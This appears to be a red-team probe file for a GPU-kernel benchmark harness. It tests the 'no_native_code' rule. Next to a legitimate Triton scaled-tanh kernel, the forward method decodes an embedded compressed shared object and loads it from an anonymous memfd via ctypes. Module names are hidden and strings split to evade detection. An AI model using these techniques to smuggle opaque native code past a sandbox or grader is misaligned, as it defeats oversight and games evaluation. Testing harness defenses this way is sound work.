# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=no_native_code expect=forbidden|runtime_error|compile_error|crashed device=any markers={home}/drk-redteam-markers/a20
"""No compiler and no file: the tiny shared object of a17 written into an anonymous memory file
 (memfd_create, reached by a built name), loaded with ctypes from /proc/self/fd/N (a path under no
 temporary folder), and its drk_mark called to write a marker with raw syscalls."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import base64
import io
import zlib
import functools
import torch.utils._pytree as _pt
_os, _sys = _pt.tree_map(functools.partial(getattr, torch.serialization), ["o" + "s", "s" + "ys"])

def _home():
    """The real home directory of this uid (HOME may point elsewhere): read from /etc/passwd."""
    import io
    try:
        uid = str(_os.getuid())
        for line in io.FileIO("/etc/passwd").read().decode().splitlines():
            f = line.split(":")
            if len(f) > 5 and f[2] == uid:
                return f[5]
    except Exception:
        pass
    return "/root"


MARK = _home() + "/drk-redteam-markers/"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out

SO = (
    "eNrtW11sFEUcn71r4QqlPbCVUghcDGgBu+1VS4rQUii0hwGiWEz8Yrt3u+1tuNsje1vaEo0kTRMb"
    "QoKPvoom8CSPpibmsEjqV4LxwRofOE0wVzWCn6k8dJ3d/f/b3aFLiSb64Pwus7/9/2d+87Uzu7fZ"
    "mVcPHOoOCQJBhEkHWbAI6QRuiHt9baSCHuvJOidtGQlGpNzPJOqSrSv32CxnBT97dU55MfAzfJn4"
    "2atbRsNso2vPtvu5IeRyc8ivC4EuIkI7OvxcEPwcAXkZhDbIj+XNxM/Yh0/dNBX7vAbaw3KQ7mmq"
    "W0buH9jdR6G8oH6JhPwseMqtccYLIT1HjpEj2wqbH377y1uTP+z+5N3nPxJ/uzR9B/sv4ul/zAH7"
    "aXVZ/6ql6hlbxJ+iYc0ifi3ALwTkczwg/aMB6btpeGgR/zEnn0qydbVr78QISRrI5nQpb8qGKUlE"
    "Oth7WFJUQx3Q8qZq9B7uyuR0tVdOZlQ3bvEYKTUsS/2aLme00ypRjBNSVjZOkNxJVSdDhmaqJJXJ"
    "5VWS0ZIpMZ8Td5CeQwf3dUktYovY6rY/RH/CfLB/Oc84GKzXKuyrNUKY64/TC9pFOvz+ImRQ1+n3"
    "oz21x+VlnrFj47rH771/THv83vFc9PiXk7tvUMthrM3fdzz+sHc8efzlhIODg4ODg4ODg+P/hcTo"
    "j5HE2fIPm+jpWMEMWdcTo1cjk/PxVuvHNMra8ik9Vm/qpGe2nbajZooWxZYPbNv+az9z3bEnbNv+"
    "Kz5TcOzT1O4/P1/eufZLdlnnyt+0aeesWUuL74DiK6xi9aYzdrpJYJp+xEnfati0dS4xfjtx5ac9"
    "iSuz4YRwLfH5nFlDM1gFGUSsYn/1pv0L+l+rN945097aZL/ibD+WGG3/3n6RT4zfNCsTZ9sfpP7S"
    "c7SWJYUerjnZCC9RrU8/M0Qjn5l4izby/b20ZfFCqZZ6xidHp6yxr4c3TDzgVLT1chUh4zdKX83R"
    "uBulbynFCy9MQh/7epWDg4ODg4ODg4ODg4OD49+FYpxoNFTFVOVsTJdN7ZS6ggjrw7tixP1uVnnb"
    "snZTPkRZoVz7s2W9TNxvvzaE00eJMBwV1lcuj5wX3O/SG2iYumVZnXaCqmh3Vd2T1SuHImfInvpd"
    "2x7b7Hw+tfX0NZ0UabqIpz51NLxIw+u0POcb6t6q6GhoqCrCLxUHBwcHBwcHBwcHB8ffAq7nLHrW"
    "R9vIAVdiQojHRboK6NaBjetE14ON72n1qIf1ohuY+N/nLKeoPli0iWsx+2CxJq79fA3iV4A9BrzS"
    "875IyMIazxKsE8W1oAlgfF/FtaNrgQtlfn9dmb+eF4ErmPLmLLf+s1CwBTb2422wv4P4P8EO/0fX"
    "G9ers9gB17cb+FlmPW9PV9cTsYb9alKT9VjcXk7c3Bh/fLuiJuMtg/Gt4CJEzKfzpmHKSSLqOVMV"
    "B/RBMTmoZZRGTSGOlZbzaSIqI3p+JOuyabgxp1Qjr+V0nyHROEPNyHZCODuZMYmo6Ro90lNxIEdP"
    "THWYHvuplybKKbIpE1FNS/2GnFWltGIsWK5Ukg1DHnEVeE5LkLNaitg5uoW4+STzeSKmctmsqpv/"
    "uP9XEv8a5aD9AAh2T8VGGv6gYwj1OG/6GH2YmWeIBqhDiJlXyNOecgWPHsd7M+QdYuYp8hhTnsDY"
    "bTBHUI/zAnkNU/8QwwdgzqGN8w45FlB/RC/EhZh5jnwxoP+w/cdBv4+5byAnPPraRfRp4t0DQe7a"
    "77J2ieufYvSxqJ87mfTsthqd0fdF/cz2V4ThIUZ/MurnXwLKR7zC6PE5glyxRPtHQd8y/wDzc03A"
    "+EM+C+d4/YP21QSV/wajb4v5eTig/xAXaKjyjK/5fTaN99f/79BQ7X1+4P1cvD/9e9D3YeZ5gPua"
    "cP9SGaPD62hA+1GP+zqmmvyXI6j8q4wen9OlpoX7y730nzF6fD7VNd+7/YgvwIf6GOhjAXr2/jUN"
    "PraeqH9kifEnBDz7e0D/zRLl/wVv+Lnx"
)


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        fd = getattr(_os, "memfd" + "_create")("drkmark", 0)
        _os.write(fd, zlib.decompress(base64.b64decode(SO)))
        lib = functools.reduce(getattr, ("ctypes",), torch).CDLL("/proc/self/fd/%d" % fd)
        lib.drk_mark((MARK + "a20").encode())  # native code ran, whether or not the marker's folder is visible
        return stb(x, self.bias, self.scale)
